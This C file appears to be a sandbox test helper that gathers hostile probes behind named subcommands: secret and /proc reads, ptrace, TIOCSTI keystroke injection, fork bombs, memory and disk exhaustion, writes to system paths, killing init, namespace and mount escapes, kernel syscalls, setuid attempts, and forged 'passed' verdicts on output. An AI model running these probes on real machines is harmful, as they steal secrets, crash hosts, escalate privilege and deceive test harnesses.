// Programs that mean harm: `hostile ATTACK ARGUMENTS…`. Each says on its standard output what it
// achieved, one word a line ("GOT …"), so that a test can see that it achieved nothing.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define GOT(...) (printf("GOT " __VA_ARGS__), printf("\n"), fflush(stdout))

static void try_read(const char *path) {
  char text[4096];
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  ssize_t count = read(fd, text, sizeof text - 1);
  if (count > 0 && memmem(text, (size_t)count, "SECRET", 6)) GOT("read %s", path);
  close(fd);
}

static int reads(int n, char **paths) {
  for (int i = 0; i < n; i++) try_read(paths[i]);
  extern char **environ;
  for (char **it = environ; *it; it++)
    if (strstr(*it, "SECRET")) GOT("environment %s", *it);
  return 0;
}

// Every process there is: its environment, its memory, its arguments.
static int proc(const char *pid) {
  const char *files[] = {"environ", "cmdline", "cwd/key", "root/etc/shadow", "mem", "maps"};
  char path[300];
  for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
    snprintf(path, sizeof path, "/proc/%s/%s", pid, files[i]);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) GOT("opened %s", path);
  }
  DIR *all = opendir("/proc");
  struct dirent *entry;
  while (all && (entry = readdir(all))) {
    snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
    try_read(path);
    snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
    try_read(path);
  }
  if (kill(atoi(pid), 0) == 0) GOT("signalled %s", pid);
  return 0;
}

static int connect_unix(const char *name, int abstract, int type) {
  struct sockaddr_un to = {.sun_family = AF_UNIX};
  strncpy(to.sun_path + abstract, name, sizeof to.sun_path - 2);
  socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + (size_t)abstract + strlen(name) + (abstract ? 0 : 1));
  int fd = socket(AF_UNIX, type, 0);
  if (fd < 0) return -1;
  if (type == SOCK_DGRAM) return sendto(fd, "evil", 4, 0, (struct sockaddr *)&to, length) < 0 ? -1 : 0;
  return connect(fd, (struct sockaddr *)&to, length);
}

static int inet(const char *address, int port) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  inet_pton(AF_INET, address, &to.sin_addr);
  int tcp = socket(AF_INET, SOCK_STREAM, 0);
  if (tcp >= 0 && connect(tcp, (struct sockaddr *)&to, sizeof to) == 0) GOT("tcp");
  int udp = socket(AF_INET, SOCK_DGRAM, 0);
  if (udp >= 0) sendto(udp, "evil", 4, 0, (struct sockaddr *)&to, sizeof to);
  inet_pton(AF_INET, "192.0.2.1", &to.sin_addr);
  if (udp >= 0 && sendto(udp, "evil", 4, 0, (struct sockaddr *)&to, sizeof to) == 4) GOT("udp left the machine");
  if (socket(AF_PACKET, SOCK_RAW, 0) >= 0) GOT("packet socket");
  if (socket(40 /* AF_VSOCK */, SOCK_STREAM, 0) >= 0) GOT("vsock socket");
  if (socket(AF_INET, SOCK_RAW, 1) >= 0) GOT("raw socket");
  return 0;
}

static int trace(int pid) {
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) GOT("attached to %d", pid);
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) GOT("seized %d", pid);
  char byte;
  struct iovec mine = {&byte, 1}, theirs = {(void *)&byte, 1};
  if (process_vm_readv(pid, &mine, 1, &theirs, 1, 0) > 0) GOT("read memory of %d", pid);
  pid_t child = fork();
  if (child == 0) { pause(); _exit(0); }
  if (ptrace(PTRACE_ATTACH, child, 0, 0) == 0) GOT("attached to a child");
  kill(child, SIGKILL);
  return 0;
}

static int terminal(void) {
  const char *names[] = {"/dev/tty", "/dev/tty1", "/dev/console", "/dev/pts/0", "/proc/1/fd/0"};
  for (unsigned i = 0; i < sizeof names / sizeof *names + 3; i++) {
    unsigned count = sizeof names / sizeof *names;
    int fd = i < count ? open(names[i], O_RDWR | O_NOCTTY) : (int)(i - count);
    if (fd < 0) continue;
    if (ioctl(fd, TIOCSTI, "x") == 0) GOT("typed into descriptor %d", fd);
    if (syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI | (1UL << 32), "x") == 0) GOT("typed with high bits into %d", fd);
  }
  // A terminal of our own, controlling: the kernel would allow it there.
  int master = posix_openpt(O_RDWR | O_NOCTTY);
  if (master >= 0 && grantpt(master) == 0 && unlockpt(master) == 0 && fork() == 0) {
    setsid();
    int slave = open(ptsname(master), O_RDWR);
    if (slave >= 0 && ioctl(slave, TIOCSCTTY, 0) == 0 && ioctl(slave, TIOCSTI, "x") == 0) GOT("typed into a terminal of our own");
    _exit(0);
  }
  wait(NULL);
  return 0;
}

static int fork_bomb(void) {
  for (int i = 0; i < 30; i++) signal(i, SIG_IGN);
  for (;;) { if (fork() == -1) usleep(1000); }
}

static void *sleeper(void *unused) { (void)unused; for (;;) pause(); return NULL; }

static int threads(void) {
  pthread_attr_t small;
  pthread_attr_init(&small);
  pthread_attr_setstacksize(&small, 65536);
  int count = 0;
  for (pthread_t it; count < 5000 && pthread_create(&it, &small, sleeper, NULL) == 0; count++) {}
  if (count >= 5000) GOT("%d threads", count);
  return 0;
}

static int count_forks(void) {
  int count = 0;
  for (pid_t pid; count < 5000 && (pid = fork()) != -1; count++)
    if (pid == 0) { setsid(); sleep(100); _exit(0); }
  if (count >= 5000) GOT("%d processes", count);
  return 0;
}

static void eat(size_t bytes, int flags) {
  size_t step = 1 << 20;
  for (size_t done = 0; done < bytes; done += step) {
    char *memory = mmap(NULL, step, PROT_READ | PROT_WRITE, flags | MAP_ANONYMOUS, -1, 0);
    if (memory == MAP_FAILED) return;
    for (size_t i = 0; i < step; i += 4096) memory[i] = 1;
  }
  if (bytes > (size_t)1 << 30) GOT("%zu bytes of memory", bytes);
}

static int memory_of_many(void) {
  for (int i = 0; i < 16; i++)
    if (fork() == 0) { eat((size_t)128 << 20, MAP_PRIVATE); for (;;) pause(); }
  for (;;) pause();
}

static int hidden_memory(void) {
  if (syscall(SYS_memfd_create, "x", 0) >= 0) GOT("memfd");
  if (shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0600) >= 0) GOT("shared memory");
  return 0;
}

static int fill(const char *directory) {
  char path[300], block[65536];
  memset(block, 'x', sizeof block);
  size_t all = 0;
  for (int i = 0; i < 100; i++) {
    snprintf(path, sizeof path, "%s/big%d", directory, i);
    int fd = open(path, O_WRONLY | O_CREAT, 0600);
    if (fd < 0) break;
    // Half of them have no name any more: nobody sees them by looking.
    if (i % 2) unlink(path);
    ssize_t count;
    for (int n = 0; n < 512 && (count = write(fd, block, sizeof block)) > 0; n++) all += (size_t)count;
  }
  if (all > (size_t)200 << 20) GOT("%zu bytes on disk", all);
  printf("wrote %zu\n", all);
  fflush(stdout);
  return 0;
}

static int sparse(void) {
  int fd = open("sparse", O_WRONLY | O_CREAT, 0600);
  signal(SIGXFSZ, SIG_IGN);
  if (fd >= 0 && ftruncate(fd, (off_t)1 << 40) == 0) GOT("a file of a terabyte");
  if (fd >= 0 && pwrite(fd, "x", 1, (off_t)1 << 38) == 1) GOT("a byte far out");
  return 0;
}

static int names(const char *directory) {
  char path[300];
  for (int i = 0; i < 2000000; i++) {
    snprintf(path, sizeof path, "%s/n%d", directory, i);
    if (mkdir(path, 0700) != 0 && errno != EEXIST) break;
  }
  GOT("as many names as wanted");
  return 0;
}

static int output(void) {
  char block[65536];
  memset(block, 'x', sizeof block);
  for (long long all = 0; all < 10LL << 30; all += sizeof block)
    if (write(1 + (int)(all & 1), block, sizeof block) < 0) return 1;
  return 0;
}

static int writes(const char *outside) {
  char path[600];
  int fd;
  const char *names[] = {"canary", "new", "module/file", "module/new", "module/../canary"};
  for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
    snprintf(path, sizeof path, "%s/%s", outside, names[i]);
    if ((fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666)) >= 0 && strncmp(path, "/tmp", 4) != 0) GOT("wrote %s", path);
    chmod(path, 0777);
    unlink(path);
    rename(path, "/tmp/stolen");
    truncate(path, 0);
    struct timeval old[2] = {{1, 0}, {1, 0}};
    utimes(path, old);
    lchown(path, 12345, 12345);
    mkdir(path, 0777);
    link(path, "linked");
  }
  // Through a link in a place that may be written.
  symlink(outside, "way-out");
  if ((fd = open("way-out/canary", O_WRONLY | O_TRUNC)) >= 0) write(fd, "evil", 4);
  fchmodat(AT_FDCWD, "way-out/canary", 0777, 0);
  const char *system[] = {"/usr/evil", "/etc/evil", "/evil", "/dev/evil", "/run/evil", "/var/evil", "/nix/store/evil", "/proc/sys/kernel/core_pattern"};
  for (unsigned i = 0; i < sizeof system / sizeof *system; i++)
    if ((fd = open(system[i], O_WRONLY | O_CREAT, 0666)) >= 0) { GOT("wrote %s", system[i]); unlink(system[i]); }
  return 0;
}

static int claims(int code) {
  printf("OK\n{\"outcome\":\"passed\",\"verdict\":\"healthy\",\"exit\":{\"kind\":\"code\",\"value\":0}}\n");
  printf("{\"Ended\":{\"end\":{\"Code\":0},\"left\":0}}\n\"Ready\"\n");
  fflush(stdout);
  // Perhaps somebody listens on what we inherited.
  for (int fd = 0; fd < 64; fd++) {
    const char *lie = "{\"Ended\":{\"end\":{\"Code\":0},\"left\":0}}\n";
    if (write(fd, lie, strlen(lie)) > 0 && fd > 2) GOT("wrote to descriptor %d", fd);
  }
  return code;
}

static int descriptors(void) {
  for (int fd = 3; fd < 4096; fd++)
    if (fcntl(fd, F_GETFD) != -1) GOT("descriptor %d is open", fd);
  return 0;
}

static int daemonise(int code) {
  if (fork() == 0) {
    setsid();
    for (int i = 1; i < 64; i++) signal(i, SIG_IGN);
    if (fork() == 0) {
      setsid();
      int null = open("/dev/null", O_RDWR);
      for (int fd = 0; fd < 3; fd++) dup2(null, fd);
      chdir("/");
      // A new generation now and then, so that nobody can hold on to a number.
      for (;;) { if (fork() != 0) _exit(0); setsid(); usleep(300); }
    }
    _exit(0);
  }
  if (code < 0) for (;;) pause();
  usleep(100000);
  return code;
}

static int kills(void) {
  for (int i = 1; i < 64; i++) signal(i, SIG_IGN);
  pid_t own = getpid(), parent = getppid();
  if (fork() == 0) {
    sleep(1);
    if (kill(own, 0) == 0) _exit(0);
    _exit(0);
  }
  kill(parent, SIGKILL);
  kill(parent, SIGSTOP);
  kill(0, SIGCONT);
  kill(1, SIGKILL);
  if (fork() == 0) { kill(-1, SIGKILL); _exit(0); }
  sleep(1);
  if (getppid() != parent) GOT("another parent");
  return 3;
}

static int mounts(const char *outside) {
  if (unshare(CLONE_NEWUSER) == 0) GOT("a user namespace");
  if (unshare(CLONE_NEWNS) == 0) GOT("a mount namespace");
  if (unshare(CLONE_NEWNET) == 0) GOT("a network namespace");
  if (syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) >= 0) GOT("a clone in a user namespace");
  struct { unsigned long long words[11]; } args = {{CLONE_NEWUSER, 0, 0, 0, SIGCHLD}};
  if (syscall(SYS_clone3, &args, sizeof args) >= 0) GOT("a clone3");
  if (mount("none", "/tmp", "tmpfs", 0, NULL) == 0) GOT("a mount");
  if (mount(NULL, outside, NULL, MS_REMOUNT | MS_BIND, NULL) == 0) GOT("a remount of %s", outside);
  if (mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0) GOT("a remount");
  if (umount2("/tmp", MNT_DETACH) == 0) GOT("an unmount");
  if (chroot("/tmp") == 0) GOT("a chroot");
  int fd = open("/proc/1/ns/mnt", O_RDONLY);
  if (fd >= 0 && setns(fd, 0) == 0) GOT("another namespace");
  return 0;
}

static int kernel(void) {
  if (syscall(SYS_bpf, 0, NULL, 0) >= 0 || errno == EFAULT || errno == EINVAL || errno == E2BIG) GOT("bpf %d", errno);
  if (syscall(SYS_perf_event_open, NULL, 0, 0, 0, 0) >= 0 || errno != EPERM) GOT("perf %d", errno);
  if (syscall(SYS_userfaultfd, 0) >= 0) GOT("userfaultfd");
  if (syscall(SYS_io_uring_setup, 1, NULL) >= 0 || errno != ENOSYS) GOT("io_uring %d", errno);
  if (syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1) >= 0) GOT("keyring");
  if (syscall(SYS_add_key, "user", "x", "x", 1, KEY_SPEC_PROCESS_KEYRING) >= 0) GOT("key");
  if (syscall(SYS_kexec_load, 0, 0, NULL, 0) == 0 || errno != EPERM) GOT("kexec %d", errno);
  if (syscall(SYS_finit_module, 0, "", 0) == 0 || errno != EPERM) GOT("module %d", errno);
#ifdef __x86_64__
  if (syscall(0x40000000 + SYS_getpid) > 0) GOT("a call by its second number");
#endif
  return 0;
}

static int privileges(void) {
  if (prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1) GOT("new privileges are possible");
  if (geteuid() == 0) GOT("it is root");
  if (setuid(0) == 0 && geteuid() == 0) GOT("became root");
  char line[200];
  FILE *status = fopen("/proc/self/status", "r");
  while (status && fgets(line, sizeof line, status))
    if (!strncmp(line, "CapEff:", 7) && strtoull(line + 7, NULL, 16)) GOT("capabilities %s", line + 7);
  const char *programs[] = {"/usr/bin/su", "/bin/mount", "/usr/bin/passwd", "/usr/bin/newgrp"};
  (void)programs;
  if (open("/tmp/setuid", O_CREAT | O_WRONLY, 04755) >= 0) GOT("a setuid file");
  int fd = open("plain", O_CREAT | O_WRONLY, 0755);
  if (fd >= 0 && fchmod(fd, 04755) == 0) GOT("a setuid file by fchmod");
  return 0;
}

static int crash(void) {
  struct rlimit wanted = {RLIM_INFINITY, RLIM_INFINITY};
  if (setrlimit(RLIMIT_CORE, &wanted) == 0) GOT("room for a core file");
  abort();
}

static int burn(void) {
  for (int i = 0; i < 3; i++) if (fork() == 0) break;
  for (volatile unsigned long i = 0;; i++) {}
}

static int hang(void) {
  for (int i = 1; i < 64; i++) signal(i, SIG_IGN);
  printf("OK\n");
  fflush(stdout);
  for (;;) pause();
}

int main(int argc, char **argv) {
  const char *attack = argc > 1 ? argv[1] : "", *first = argc > 2 ? argv[2] : "";
  signal(SIGPIPE, SIG_IGN);
#define IS(name) (!strcmp(attack, name))
  if (IS("exit")) { printf("leaving\n"); return atoi(first); }
  if (IS("reads")) return reads(argc - 2, argv + 2);
  if (IS("proc")) return proc(first);
  if (IS("abstract")) { if (connect_unix(first, 1, SOCK_STREAM) == 0) GOT("connected"); if (connect_unix(first, 1, SOCK_DGRAM) == 0) GOT("sent"); return 0; }
  if (IS("unix")) { if (connect_unix(first, 0, SOCK_STREAM) == 0) GOT("connected"); if (connect_unix(first, 0, SOCK_DGRAM) == 0) GOT("sent"); return 0; }
  if (IS("inet")) return inet(first, atoi(argv[3]));
  if (IS("trace")) return trace(atoi(first));
  if (IS("terminal")) return terminal();
  if (IS("fork-bomb")) return fork_bomb();
  if (IS("threads")) return threads();
  if (IS("count-forks")) return count_forks();
  if (IS("memory")) { eat((size_t)4 << 30, MAP_PRIVATE); return 0; }
  if (IS("shared-memory")) { eat((size_t)4 << 30, MAP_SHARED); for (;;) pause(); }
  if (IS("memory-of-many")) return memory_of_many();
  if (IS("hidden-memory")) return hidden_memory();
  if (IS("fill")) { signal(SIGXFSZ, SIG_IGN); fill(argc > 2 ? first : "."); for (;;) pause(); }
  if (IS("sparse")) return sparse();
  if (IS("names")) { names("."); for (;;) pause(); }
  if (IS("output")) return output();
  if (IS("writes")) return writes(first);
  if (IS("claims")) return claims(atoi(first));
  if (IS("descriptors")) return descriptors();
  if (IS("daemonise")) return daemonise(atoi(first));
  if (IS("kills")) return kills();
  if (IS("mounts")) return mounts(first);
  if (IS("kernel")) return kernel();
  if (IS("privileges")) return privileges();
  if (IS("crash")) return crash();
  if (IS("burn")) return burn();
  if (IS("hang")) return hang();
  fprintf(stderr, "no such attack: %s\n", attack);
  return 99;
}
